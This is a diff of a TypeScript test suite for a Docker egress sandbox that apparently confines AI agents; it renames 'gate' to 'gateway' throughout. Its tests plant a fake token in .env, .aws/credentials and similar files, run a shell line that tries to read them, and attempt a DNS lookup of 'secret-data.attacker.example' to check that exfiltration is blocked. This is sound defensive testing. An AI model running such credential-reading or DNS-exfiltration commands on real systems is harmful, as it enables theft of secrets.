@@ -4,8 +4,8 @@ import { chownSync, mkdirSync, rmSync, symlinkSync, writeFileSync } from 'node:f
 import { networkInterfaces } from 'node:os'
 import { join } from 'node:path'
 import t from 'tap'
-import { collect } from './support/run.js'
-import { docker, DockerGate, inspect, skipWithoutDocker, tryDocker } from './support/docker.js'
+import { collect } from './fixtures/run.js'
+import { docker, DockerGateway, inspect, skipWithoutDocker, tryDocker } from './fixtures/docker.js'
 
 // What a sandbox of the Docker backend is, and what it can reach, on a real engine.
 
@@ -23,15 +23,15 @@ services:
 const TOKEN = 'ghp_R3alT0kenThatNobodyMaySee0123456789ab'
 
 void t.test('a sandbox on Docker', { skip: skipWithoutDocker() }, async (t) => {
-  const gate = new DockerGate(POLICY, {}, `API_TOKEN=${TOKEN}\n`)
-  t.teardown(() => gate.down())
-  await gate.up()
-  await gate.upstream('api.test.example')
+  const gateway = new DockerGateway(POLICY, {}, `API_TOKEN=${TOKEN}\n`)
+  t.teardown(() => gateway.down())
+  await gateway.up()
+  await gateway.upstream('api.test.example')
 
   await t.test('docker inspect shows every limit', async (t) => {
-    const child = gate.start(['--', 'sleep', '60'])
+    const child = gateway.start(['--', 'sleep', '60'])
     const done = collect(child)
-    const name = await sandboxOf(gate)
+    const name = await sandboxOf(gateway)
     const { Config, HostConfig, Mounts, NetworkSettings } = await inspect(name)
     const own = NetworkSettings.Networks[name]?.IPAddress
     const expected: Record<string, unknown> = {
@@ -93,19 +93,19 @@ void t.test('a sandbox on Docker', { skip: skipWithoutDocker() }, async (t) => {
     })
     child.kill('SIGTERM')
     t.equal((await done).code, 143)
-    t.strictSame(await gate.networksLeft(), [])
+    t.strictSame(await gateway.networksLeft(), [])
   })
 
-  await t.test('the gate itself is as bare', async (t) => {
+  await t.test('the gateway itself is as bare', async (t) => {
     for (const role of ['dns', 'proxy'] as const) {
-      const { Config, HostConfig, Mounts, State } = await inspect(gate.container(role))
+      const { Config, HostConfig, Mounts, State } = await inspect(gateway.container(role))
       t.equal(State.Health?.Status, 'healthy', role)
       t.match(HostConfig, { CapDrop: ['ALL'], ReadonlyRootfs: true, Privileged: false }, role)
       t.match(HostConfig['SecurityOpt'], ['no-new-privileges:true'], role)
       t.equal(Config['User'], '1000:1000')
       t.notMatch(JSON.stringify(Mounts), /docker\.sock/)
     }
-    const dns = await inspect(gate.container('dns'))
+    const dns = await inspect(gateway.container('dns'))
     const places = dns.Mounts.map(({ Destination }) => Destination).sort()
     t.strictSame(
       places,
@@ -113,13 +113,13 @@ void t.test('a sandbox on Docker', { skip: skipWithoutDocker() }, async (t) => {
       'no policy directory, no .env, no key',
     )
     t.notMatch(
-      await docker('exec', gate.container('dns'), 'cat', '/var/lib/egress/shared/policy.yaml'),
+      await docker('exec', gateway.container('dns'), 'cat', '/var/lib/egress/shared/policy.yaml'),
       TOKEN,
     )
   })
 
-  await t.test('a request with a dummy reaches the service with the real credential', async (t) => {
-    const said = await gate.run(
+  await t.test('a request with a placeholder reaches the service with the real credential', async (t) => {
+    const said = await gateway.run(
       '--',
       'sh',
       '-c',
@@ -128,71 +128,71 @@ void t.test('a sandbox on Docker', { skip: skipWithoutDocker() }, async (t) => {
     t.equal(said.code, 0, said.stderr)
     t.match(said.stdout, 'from api.test.example')
     t.notMatch(said.stdout, TOKEN)
-    t.match(await gate.seen(), [{ url: '/one', authorization: `Bearer ${TOKEN}` }])
+    t.match(await gateway.seen(), [{ url: '/one', authorization: `Bearer ${TOKEN}` }])
   })
 
   await t.test('exit codes are the command’s own', async (t) => {
-    t.equal((await gate.run('--', 'sh', '-c', 'exit 42')).code, 42)
-    t.equal((await gate.run('--', 'no-such-program')).code, 127)
-    t.equal((await gate.run('--', '/etc/hostname')).code, 126)
-    const unknown = await gate.run('--agent', 'nobody', '--', 'true')
+    t.equal((await gateway.run('--', 'sh', '-c', 'exit 42')).code, 42)
+    t.equal((await gateway.run('--', 'no-such-program')).code, 127)
+    t.equal((await gateway.run('--', '/etc/hostname')).code, 126)
+    const unknown = await gateway.run('--agent', 'nobody', '--', 'true')
     t.equal(unknown.code, 125)
     t.match(unknown.stderr, 'the policy has no agent `nobody`')
-    t.equal((await gate.run('--policy', 'x', '--', 'true')).code, 125)
-    t.equal((await gate.run('--limit', 'tmp=lots', '--', 'true')).code, 125)
-    t.equal((await gate.run('--mount', '/var/run/docker.sock', '--', 'true')).code, 125)
-    t.equal((await gate.run('--mount', '/', '--', 'true')).code, 125)
+    t.equal((await gateway.run('--policy', 'x', '--', 'true')).code, 125)
+    t.equal((await gateway.run('--limit', 'tmp=lots', '--', 'true')).code, 125)
+    t.equal((await gateway.run('--mount', '/var/run/docker.sock', '--', 'true')).code, 125)
+    t.equal((await gateway.run('--mount', '/', '--', 'true')).code, 125)
     for (const [words, problem] of [
       [['--limit', 'memory=1'], /^egress: --limit `memory=1` is too little.*\n {2}write/],
       [['--limit', 'processes=1'], /^egress: --limit `processes=1` is too little.*\n {2}write/],
       [['--limit', 'cpus=999'], /^egress: --limit cpus=999 is more than there are.*\n {2}write/],
       [['--tty'], /^egress: --tty needs a terminal.*\n {2}leave/],
     ] as const)
-      t.match(await gate.run(...words, '--', 'true'), { code: 125, stderr: problem })
-    const missing = await gate.run('--', 'no-such-command')
+      t.match(await gateway.run(...words, '--', 'true'), { code: 125, stderr: problem })
+    const missing = await gateway.run('--', 'no-such-command')
     t.match(missing, { code: 127, stderr: /^egress: exit code 127: .*\n {2}name another with --image/m })
-    t.strictSame(await gate.networksLeft(), [], 'and nothing stays behind')
+    t.strictSame(await gateway.networksLeft(), [], 'and nothing stays behind')
   })
 
   await t.test('files: the work directory, what is hidden in it, what may be written', async (t) => {
-    writeFileSync(join(gate.work, '.env'), `API_TOKEN=${TOKEN}\n`)
-    writeFileSync(join(gate.work, '.env.example'), 'API_TOKEN=\n')
-    writeFileSync(join(gate.work, 'server.key'), TOKEN)
-    mkdirSync(join(gate.work, '.aws'), { recursive: true })
-    writeFileSync(join(gate.work, '.aws/credentials'), TOKEN)
-    writeFileSync(join(gate.work, 'settings'), TOKEN)
-    symlinkSync('settings', join(gate.work, '.npmrc'))
-    writeFileSync(join(gate.work, 'egress.yaml'), `# ${TOKEN}\n`)
-    writeFileSync(join(gate.work, 'a b.txt'), 'visible\n')
+    writeFileSync(join(gateway.work, '.env'), `API_TOKEN=${TOKEN}\n`)
+    writeFileSync(join(gateway.work, '.env.example'), 'API_TOKEN=\n')
+    writeFileSync(join(gateway.work, 'server.key'), TOKEN)
+    mkdirSync(join(gateway.work, '.aws'), { recursive: true })
+    writeFileSync(join(gateway.work, '.aws/credentials'), TOKEN)
+    writeFileSync(join(gateway.work, 'settings'), TOKEN)
+    symlinkSync('settings', join(gateway.work, '.npmrc'))
+    writeFileSync(join(gateway.work, 'egress.yaml'), `# ${TOKEN}\n`)
+    writeFileSync(join(gateway.work, 'a b.txt'), 'visible\n')
     const look =
       'cat .env.example "a b.txt"; cat .env server.key .aws/credentials settings .npmrc egress.yaml; echo x > new; echo x > /usr/x; echo x > /etc/resolv.conf; echo ok > /tmp/x && echo ok > ~/x && cat ~/x'
-    const { stdout, stderr } = await gate.run('--', 'sh', '-c', look)
+    const { stdout, stderr } = await gateway.run('--', 'sh', '-c', look)
     t.match(stdout, 'visible')
     t.match(stdout, 'API_TOKEN=\n')
     t.match(stdout, /ok\n$/)
     t.notMatch(stdout + stderr, TOKEN)
     t.match(stderr, /^egress: NOTE: egress.yaml in this directory is not used/)
-    rmSync(join(gate.work, 'egress.yaml'))
+    rmSync(join(gateway.work, 'egress.yaml'))
     t.equal(stderr.match(/Read-only file system/g)?.length, 3, stderr)
-    const written = await gate.run('--write', '--', 'sh', '-c', 'echo x > new; ls')
+    const written = await gateway.run('--write', '--', 'sh', '-c', 'echo x > new; ls')
     if (process.getuid?.() === 0) {
       t.match(written, {
         code: 125,
         stderr: /cannot be written by the agent.*\n {2}run: chown -R 1000:1000 /,
       })
-      chownSync(gate.work, 1000, 1000)
+      chownSync(gateway.work, 1000, 1000)
     }
-    t.match((await gate.run('--write', '--', 'sh', '-c', 'echo x > new; ls')).stdout, 'new')
+    t.match((await gateway.run('--write', '--', 'sh', '-c', 'echo x > new; ls')).stdout, 'new')
   })
 
-  await t.test('nobody is reachable but the gate', async (t) => {
+  await t.test('nobody is reachable but the gateway', async (t) => {
     const listeners = await listenEverywhere()
     const own = await docker(
       'run',
       '-d',
       '--rm',
       '--name',
-      `${gate.project}-other`,
+      `${gateway.project}-other`,
       '--entrypoint',
       'node',
       'agent-egress-sandbox:local',
@@ -228,7 +228,7 @@ void t.test('a sandbox on Docker', { skip: skipWithoutDocker() }, async (t) => {
       for (const [host] of targets) udp(host)
       Promise.all(targets.map(tcp)).then(r => console.log(JSON.stringify({ r, net6 })))
     `
-    const { stdout, stderr } = await gate.run('--', 'node', '-e', script)
+    const { stdout, stderr } = await gateway.run('--', 'node', '-e', script)
     const { r, net6 } = JSON.parse(stdout || '{}') as { r: [string, number, string][]; net6: unknown[] }
     t.ok(r.length > 10, stderr)
     for (const [host, port, result] of r) {
@@ -249,7 +249,7 @@ void t.test('a sandbox on Docker', { skip: skipWithoutDocker() }, async (t) => {
       `require('node:net').connect(${listeners.tcp}, ${JSON.stringify(bridge)}).on('connect', () => process.exit(0))`,
     )
     t.equal(bare.code, 0, bare.stderr)
-    t.ok(listeners.heard() > 0, 'the twin was heard')
+    t.ok(listeners.heard() > 0, 'the control was heard')
   })
 
   await t.test('the resolver’s container has no way out', async (t) => {
@@ -264,16 +264,16 @@ void t.test('a sandbox on Docker', { skip: skipWithoutDocker() }, async (t) => {
         .then(r => { console.log(JSON.stringify(r)); process.exit() })
       setTimeout(() => process.exit(1), 20000)
     `
-    const said = JSON.parse(await docker('exec', gate.container('dns'), 'node', '-e', script)) as string[]
+    const said = JSON.parse(await docker('exec', gateway.container('dns'), 'node', '-e', script)) as string[]
     for (const result of said.slice(0, 4)) t.match(result, /^(ENETUNREACH|EHOSTUNREACH|timeout)$/)
     for (const result of said.slice(4)) t.notMatch(result, /^resolved$/)
     // Engine 20.10 sets a gateway, the address that `inhibit_ipv4` takes away from the host; later ones set none.
-    const gateways = (await docker('exec', gate.container('dns'), 'cat', '/proc/net/route'))
+    const gateways = (await docker('exec', gateway.container('dns'), 'cat', '/proc/net/route'))
       .split('\n')
       .slice(1)
       .map((line) => line.split('\t')[2] ?? '')
       .filter((gateway) => gateway !== '00000000')
-    const ours = gate.env['EGRESS_AGENTS_DNS'] ?? ''
+    const ours = gateway.env['EGRESS_AGENTS_DNS'] ?? ''
     for (const gateway of gateways) {
       const address = [6, 4, 2, 0].map((at) => parseInt(gateway.slice(at, at + 2), 16)).join('.')
       t.equal(address, neighbour(ours, -1), 'nobody’s address')
@@ -287,7 +287,7 @@ void t.test('a sandbox on Docker', { skip: skipWithoutDocker() }, async (t) => {
       Promise.all([at('', 'api.test.example'), at('', 'example.com'), at('127.0.0.11', 'api.test.example'), at('127.0.0.11', 'example.com'), at('127.0.0.11', 'secret-data.attacker.example')])
         .then(r => console.log(JSON.stringify([require('node:os').networkInterfaces().eth0[0].address, ...r])))
     `
-    const { stdout, stderr } = await gate.run('--', 'node', '-e', script)
+    const { stdout, stderr } = await gateway.run('--', 'node', '-e', script)
     const [own = '', ours, unlisted, embedded, ...forwarded] = JSON.parse(stdout || '[]') as string[]
     const proxy = own.replace(/\d+$/, (last) => String(Number(last) - 1))
     t.equal(ours, proxy, stderr)
@@ -298,7 +298,7 @@ void t.test('a sandbox on Docker', { skip: skipWithoutDocker() }, async (t) => {
       'the engine’s own leads here or nowhere',
     )
     for (const result of forwarded) t.match(result, /^(ENOTFOUND|ETIMEOUT|ESERVFAIL|ECONNREFUSED|EREFUSED)$/)
-    const asked = (await gate.records()).filter((record) =>
+    const asked = (await gateway.records()).filter((record) =>
       JSON.stringify(record).includes('attacker.example'),
     )
     t.ok(asked.length === 0 || JSON.stringify(asked).includes('"verdict":"deny"'))
@@ -306,12 +306,12 @@ void t.test('a sandbox on Docker', { skip: skipWithoutDocker() }, async (t) => {
 })
 
 /** The one sandbox that runs now. */
-async function sandboxOf(gate: DockerGate): Promise<string> {
+async function sandboxOf(gateway: DockerGateway): Promise<string> {
   for (let tries = 0; tries < 200; tries += 1) {
     const name = await docker(
       'ps',
       '--filter',
-      `label=io.egress.project=${gate.project}`,
+      `label=io.egress.project=${gateway.project}`,
       '--format',
       '{{.Names}}',
     )
